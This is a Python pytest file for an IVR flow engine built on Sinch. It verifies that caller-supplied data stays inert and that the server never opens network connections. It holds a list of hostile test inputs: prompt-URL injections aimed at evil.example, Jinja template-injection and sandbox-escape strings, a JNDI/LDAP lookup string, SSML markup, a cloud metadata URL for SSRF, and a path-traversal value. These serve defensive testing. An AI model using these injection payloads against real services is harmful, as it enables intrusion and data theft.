"""What a caller controls (caller id, DTMF, speech, `custom`, cookies echoed through Sinch) stays data.

It can never add a prompt part (a URL Sinch would fetch, an #href), close a #tts[...] or open an
#ssml[...], inject SSML, run as template code, or make the server open a network connection.
"""
from __future__ import annotations

import json
import logging
import re
import socket
from typing import Any, Iterator

import pytest
from relykit import (
    ENV,
    TUESDAY_10,
    backend_fetch,
    compile_flow,
    encode,
    example_machines,
    fixed,
    library_of,
    make_client,
    signed_headers,
)

from ivrc.compiler import compile_text
from ivrc.runtime.emulation.emulator import Call, EngineTransport
from ivrc.runtime.emulation.svaml_check import problems
from ivrc.runtime.engine.events import parse_callback
from ivrc.runtime.engine.step import Engine
from ivrc.runtime.server.app import CALLBACK_PATH

PARROT_NUMBER = "+15550007000"
# Every call field a template can read, spoken back in TTS and in SSML, stored in a variable,
# and repeated in retry prompts: the worst a flow author can do with caller data.
PARROT = """\
    ivrc: 1
    flow: parrot
    numbers: ["+15550007000"]
    start: greet
    variables:
      note: {max_length: 200}
    prompts:
      who: "You are {{ call.caller }} calling {{ call.called }} about {{ call.custom }}."
      who_ssml:
        - ssml: "<speak>Caller {{ call.caller }}, about {{ call.custom }}, noted {{ note }}.</speak>"
    states:
      greet:
        set: {note: "{{ call.custom[:40] }}"}
        say: {prompt: who}
        next: ask
      ask:
        collect:
          prompt: {prompt: who_ssml}
          into: code
          min_digits: 1
          max_digits: 8
          attempts: 3
          no_input: {say: "Nothing from {{ call.caller }}."}
          invalid: {say: "Not digits, {{ call.caller }}."}
          next: choose
          exhausted: bye
      choose:
        say: "Code {{ code }}. Note {{ note }}. Caller {{ call.caller }}."
        menu:
          prompt: "Say yes or press 1."
          options:
            1: {goto: bye, keywords: ["yes"]}
          attempts: 3
          no_input: {say: "Hello {{ call.caller }}?"}
          invalid: {say: "Pardon, {{ call.caller }}?"}
          exhausted: bye
      bye:
        say: "Goodbye {{ call.caller }}, {{ note }}."
        hangup: true
"""

PAYLOADS = [
    "]#tts[x];http://evil.example/a.mp3",
    "#href[http://evil.example/x.wav]",
    "http://evil.example/x.mp3",
    "x;https://evil.example/y.mp3;#ssml[<speak>z</speak>]",
    "{{7*7}}",
    "{% for i in range(9) %}{{ i }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "<speak>hi</speak>",
    "<break time='10s'/>&amp;",
    "\n\r#tts[",
    "${jndi:ldap://evil.example/a}",
]


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
    """Every way Python opens a connection or resolves a name fails the test, and is recorded."""
    attempts: list[Any] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        attempts.append(args[1:] if args and isinstance(args[0], socket.socket) else args)
        raise AssertionError(f"the server tried to reach the network: {args!r}")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket.socket, "sendto", refuse)
    yield attempts
    assert attempts == []


@pytest.fixture(scope="module")
def parrot() -> dict[str, Any]:
    return compile_flow(PARROT)


@pytest.fixture
def engine(parrot: dict[str, Any]) -> Engine:
    library = library_of(parrot, *example_machines())
    library.default_flow = "parrot"  # any called number reaches the parrot, so `called` can be a payload too
    return Engine(library, clock=fixed(TUESDAY_10), env=ENV, backend=backend_fetch)


# -- what a prompt may look like ----------------------------------------------------------------

_PART = re.compile(r"#tts\[[^\[\]]*\]|#ssml\[<speak>[^\[\]]*</speak>\]")


def prompt_parts(answer: dict[str, Any]) -> list[str]:
    """Every prompt part of an answer: playFiles ids, and the parts of menu and park prompts."""
    parts: list[str] = []
    for instruction in answer.get("instructions", []):
        if instruction.get("name") == "playFiles":
            parts.extend(instruction["ids"])
        if instruction.get("name") == "say":
            parts.append("#tts[" + instruction["text"] + "]")
    action = answer.get("action", {})
    prompts = [m.get(k, "") for m in action.get("menus", []) for k in ("mainPrompt", "repeatPrompt")]
    prompts += [action.get("introPrompt", ""), action.get("holdPrompt", "")]
    for prompt in prompts:
        parts.extend(p for p in prompt.split(";") if p)
    return parts


def assert_inert(answer: dict[str, Any] | None, event: str) -> None:
    """Valid SVAML whose every prompt part is one whole #tts[...] or one <speak> document: no URL, no #href,
    no part a caller split off, no markup inside (the parrot's own SSML has no inner tags)."""
    if answer is None:
        return
    assert problems(answer, event) == []
    for part in prompt_parts(answer):
        assert _PART.fullmatch(part), f"a prompt part a caller could have shaped: {part!r}"
        inner = part[len("#ssml[<speak>"):-len("</speak>]")] if part.startswith("#ssml[") else part[5:-1]
        assert "<" not in inner and ">" not in inner, f"markup from a caller: {part!r}"


def as_tts(value: str) -> str:
    """What caller data must become inside #tts[...]: no brackets, no part separator, no markup, one line."""
    return value.translate(str.maketrans({"[": " ", "]": " ", ";": ",", "<": " ", ">": " ", "\n": " ", "\r": " "}))


def as_ssml(value: str) -> str:
    return value.translate(str.maketrans({"[": " ", "]": " ", ";": ",", "<": " ", ">": " ", "&": " and ",
                                          '"': " ", "'": " ", "\n": " ", "\r": " "}))


def play(call: Call, payload: str) -> Call:
    """Drive the parrot through every input kind, with the payload wherever a caller can put it."""
    call.start()
    call.press("12345678")  # a full code: collected and spoken back
    call.say(payload)  # speech that matches no keyword
    call.say("yes")
    return call


@pytest.mark.parametrize("payload", PAYLOADS)
def test_caller_id_called_number_and_custom_are_spoken_as_text(engine: Engine, no_network, payload: str) -> None:
    call = play(Call(EngineTransport(engine), called=payload, caller=payload, custom=payload), payload)
    assert call.ended and call.heard()[-1].startswith("Goodbye")
    for event, answer in call.answers:
        if event in ("ICE", "ACE", "PIE"):
            assert_inert(answer, event)
    heard = call.heard()
    # The data is there, word for word, minus the characters that mean something to Sinch or SSML:
    # template code is read out as written, never evaluated.
    tts = as_tts(payload)
    assert heard[0] == f"You are {tts} calling {tts} about {tts}."
    ice_prompt = call.answers[0][1]["action"]["menus"][0]["mainPrompt"]
    ssml = as_ssml(payload)
    assert ice_prompt == f"#ssml[<speak>Caller {ssml}, about {ssml}, noted {as_ssml(payload[:40])}.</speak>]"
    assert "Code 12345678." in heard[2]


@pytest.mark.parametrize("payload", PAYLOADS + ["1#tts[", "١٢٣", "12\n34", "9" * 200, "12 34", "+1234"])
def test_dtmf_that_is_not_digits_is_refused_not_stored(engine: Engine, payload: str) -> None:
    """A PIE whose value is not 1-8 digits is invalid input: retried, never stored, never spoken."""
    first = Call(EngineTransport(engine), called=PARROT_NUMBER).start()
    cookies = dict(first.cookies)
    body = {"event": "pie", "callid": first.callid, "version": 1,
            "menuResult": {"menuId": "main", "type": "sequence", "value": payload, "inputMethod": "dtmf"},
            "cookies": [{"key": k, "value": v} for k, v in cookies.items()]}
    answer = engine.step(parse_callback(encode(body)))
    assert answer.outcome == "collect-retry", answer.error
    assert_inert(answer.svaml, "PIE")
    assert not any(i.get("key") == "v.code" for i in answer.svaml["instructions"])
    assert payload not in json.dumps(answer.svaml, ensure_ascii=False)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_speech_results_only_ever_match_keywords(engine: Engine, payload: str) -> None:
    call = Call(EngineTransport(engine), called=PARROT_NUMBER).start().press("1")
    before = len(call.answers)
    call.say(payload)
    event, answer = call.answers[before]
    assert event == "PIE" and answer["instructions"][0]["value"].split("|")[2:4] == ["choose", "1"]  # a retry
    assert_inert(answer, "PIE")
    assert payload not in json.dumps(answer, ensure_ascii=False)  # speech is matched, never echoed


@pytest.mark.parametrize("payload", PAYLOADS)
def test_variables_echoed_in_cookies_are_spoken_as_text(engine: Engine, parrot: dict, payload: str) -> None:
    """A tampered `v.note` cookie within its length is the caller's data like any other: neutralised."""
    state = f"parrot|{parrot['version']}|choose|0|en-US"
    body = {"event": "pie", "callid": "c1", "menuResult": {"menuId": "main", "type": "return",
                                                            "value": "parrot.choose.1", "inputMethod": "dtmf"},
            "cookies": [{"key": "ivrc", "value": state}, {"key": "v.note", "value": payload},
                        {"key": "cli", "value": payload}]}
    answer = engine.step(parse_callback(encode(body)))
    assert answer.outcome == "hangup", answer.error
    assert_inert(answer.svaml, "PIE")


@pytest.mark.parametrize("state", ["{{7*7}}", "{% raw %}", "main_menu|x", "../../etc/passwd", "__class__",
                                   "ask\n", "ask ", "ASK", "a" * 500, "\ud800"])
def test_a_state_cookie_naming_no_state_takes_the_error_path(engine: Engine, parrot: dict, state: str,
                                                             caplog: pytest.LogCaptureFixture) -> None:
    cookie = f"parrot|{parrot['version']}|{state}|0|en-US"
    body = {"event": "pie", "callid": "c1", "menuResult": {"menuId": "main", "type": "timeout", "value": ""},
            "cookies": [{"key": "ivrc", "value": cookie}]}
    answer = engine.step(parse_callback(json.dumps(body).encode()))
    assert answer.outcome == "error" and answer.state is None
    assert answer.svaml["action"] == {"name": "hangup"}
    assert_inert(answer.svaml, "PIE")
    # The messages only: the log's file:line prefix (step.py:4NN) is no rendered template.
    assert "49" not in "\n".join(record.getMessage() for record in caplog.records)


def sealed(callid: str, cookies: dict[str, str]) -> list[dict[str, str]]:
    """State cookies as the engine left them with Sinch: sealed (runtime/engine/sealing.py)."""
    from ivrc.runtime.engine.sealing import Sealer

    return [{"key": k, "value": v} for k, v in {**cookies, "m": Sealer().seal(callid, cookies)}.items()]


@pytest.mark.parametrize("locale", ["{{7*7}}", "en-US]#tts[x", "xx-XX", ""])
def test_a_locale_cookie_that_is_not_one_of_the_flows_falls_back(engine: Engine, parrot: dict, locale: str) -> None:
    body = {"event": "pie", "callid": "c1", "menuResult": {"menuId": "main", "type": "timeout", "value": ""},
            "cookies": sealed("c1", {"ivrc": f"parrot|{parrot['version']}|choose|0|{locale}"})}
    answer = engine.step(parse_callback(encode(body)))
    assert answer.outcome == "menu-retry" and answer.svaml["action"]["locale"] == "en-US"
    assert_inert(answer.svaml, "PIE")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_outbound_custom_variables_are_spoken_as_text(payload: str, no_network) -> None:
    """A callout's `custom` JSON sets declared variables; their values are caller-grade data too."""
    library = library_of(*example_machines())
    engine = Engine(library, clock=fixed(TUESDAY_10), env=ENV, backend=backend_fetch)
    custom = json.dumps({"flow": "reminder", "vars": {"clinic": payload[:40], "appointment_time": payload[:60]}})
    call = Call(EngineTransport(engine), outbound=True, custom=custom, amd="human").start().press("1")
    for event, answer in call.answers:
        if event in ("ICE", "ACE", "PIE"):
            assert_inert(answer, event)
    assert call.heard()[-1].startswith("Thank you, your appointment is confirmed")


def test_notify_and_recording_urls_are_never_fetched(no_network) -> None:
    """Recording and transcript locations arrive in Notify events; they are logged, never opened."""
    library = library_of(*example_machines())
    client = make_client(library)
    for body in ({"event": "notify", "callid": "c1", "type": "recording_available",
                  "destination": "http://evil.example/steal"},
                 {"event": "notify", "callid": "c1", "type": "transcription_available",
                  "destination": "https://169.254.169.254/latest/meta-data/"},
                 {"event": "ice", "callid": "c2", "cli": "http://evil.example/", "custom": "http://evil.example/",
                  "to": {"type": "number", "endpoint": "+46812345690"}}):
        content = encode(body)
        response = client.post(CALLBACK_PATH, content=content, headers=signed_headers(content, TUESDAY_10))
        assert response.status_code == 200
    # The voicemail flow records: it tells Sinch where to put the file, and fetches nothing itself.
    call = Call(EngineTransport(Engine(library, clock=fixed(TUESDAY_10), env=ENV, backend=backend_fetch)), called="+46812345690")
    call.start().press("#")
    assert call.ended


# -- a caller id that is not ASCII (a SIP display name) ---------------------------------------------


def _tight_flow(filler: int) -> str:
    """A flow whose cookies are within a few bytes of Sinch's 1024 when it carries the caller id to a PIE."""
    return f"""\
ivrc: 1
flow: tight
numbers: ["+15550007100"]
start: fill
variables:
  a: {{max_length: 512}}
  b: {{max_length: {filler}}}
states:
  fill:
    set: {{a: "{{{{ 'x' * 512 }}}}", b: "{{{{ 'y' * {filler} }}}}"}}
    next: ask
  ask:
    menu:
      prompt: "Press 1."
      options:
        1: bye
      no_input: bye
      invalid: bye
      exhausted: bye
  bye:
    say: "Goodbye {{{{ call.caller }}}}."
    hangup: true
"""


def _largest_flow_that_lints_clean() -> dict[str, Any]:
    low, high = 1, 512
    while low < high:  # the largest filler the compiler's cookie bound (IVR070) accepts
        middle = (low + high + 1) // 2
        if compile_text(_tight_flow(middle), "tight.yaml").ok:
            low = middle
        else:
            high = middle - 1
    result = compile_text(_tight_flow(low), "tight.yaml")
    assert result.machine is not None
    return result.machine


@pytest.mark.parametrize("caller", ["+46701234567", "Émilie Ørsted-Łukasiewicz Żółć", "😀" * 40, "\ud800" * 40],
                         ids=["e164", "latin-letters", "emoji", "lone-surrogates"])
def test_a_caller_id_in_any_script_stays_within_the_proven_cookie_bound(caller: str) -> None:
    """Regression: the carried caller id was cut at 32 characters, not 32 bytes, so a non-ASCII caller
    id pushed a flow that lints clean past Sinch's 1024-byte cookie cap, and the caller heard the apology."""
    machine = _largest_flow_that_lints_clean()
    engine = Engine(library_of(machine), clock=fixed(TUESDAY_10), env={}, backend=backend_fetch)
    body = {"event": "ice", "callid": "c1", "cli": caller, "to": {"type": "number", "endpoint": "+15550007100"}}
    answer = engine.step(parse_callback(json.dumps(body).encode()))
    assert answer.outcome == "menu", answer.error
    cookies = {i["key"]: i["value"] for i in answer.svaml["instructions"] if i["name"] == "setCookie"}
    assert len(cookies["cli"].encode()) <= 32
    assert problems(answer.svaml, "ICE") == []


def test_a_callout_custom_nested_thousands_deep_is_just_not_a_flow(engine: Engine,
                                                                   caplog: pytest.LogCaptureFixture) -> None:
    """Regression: JSON in `custom` nested past Python's recursion limit raised RecursionError, which
    the step reported as a bug, with a traceback in the log, instead of the ACE nobody claims."""
    for custom in ("{not json", '{"flow": "reminder", "vars": ' + "[" * 50_000 + "]" * 50_000 + "}"):
        answer = engine.step(parse_callback(encode({"event": "ace", "callid": "c1", "custom": custom})))
        assert answer.outcome == "ace-ignored" and answer.svaml == {"instructions": [], "action": {"name": "continue"}}
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


def test_a_callout_variable_with_a_lone_surrogate_takes_the_flows_error_path(engine: Engine,
                                                                            caplog: pytest.LogCaptureFixture) -> None:
    """JSON lets '\\ud800' through; encoding it raised UnicodeEncodeError, which the step reported as a bug
    with a traceback, skipping the flow's on_error. It is a value the callout may not set."""
    custom = json.dumps({"flow": "reminder", "vars": {"clinic": "\ud800"}})
    answer = engine.step(parse_callback(encode({"event": "ace", "callid": "c1", "custom": custom,
                                                "amd": {"status": "human", "reason": "longgreeting"}})))
    assert answer.error is not None and answer.error.startswith("custom: the callout's value for 'clinic'"), answer.error
    assert answer.outcome == "error" and "Sorry, something went wrong" in json.dumps(answer.svaml)  # the flow's words
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


def test_a_request_secret_that_ends_with_a_line_feed_is_sent_without_it() -> None:
    """A secret mounted from a file often ends with a line feed. Start-up strips it before checking it is
    set; the request used it raw, so the header was refused and every request failed as `connection`."""
    from ivrc.runtime.engine.requests import Reply

    sent = []

    def backend(outgoing):
        sent.append(outgoing)
        return Reply(status=200, data={"verified": False}, json_ok=True, seconds=0.001)

    engine = Engine(library_of(*example_machines()), clock=fixed(TUESDAY_10),
                    env={**ENV, "BANK_API_TOKEN": "demo-bank-token\n"}, backend=backend)
    Call(EngineTransport(engine), called="+46812345700").start().press("123456#").press("1234#")
    assert sent and all(o.headers["Authorization"] == "Bearer demo-bank-token" for o in sent), sent
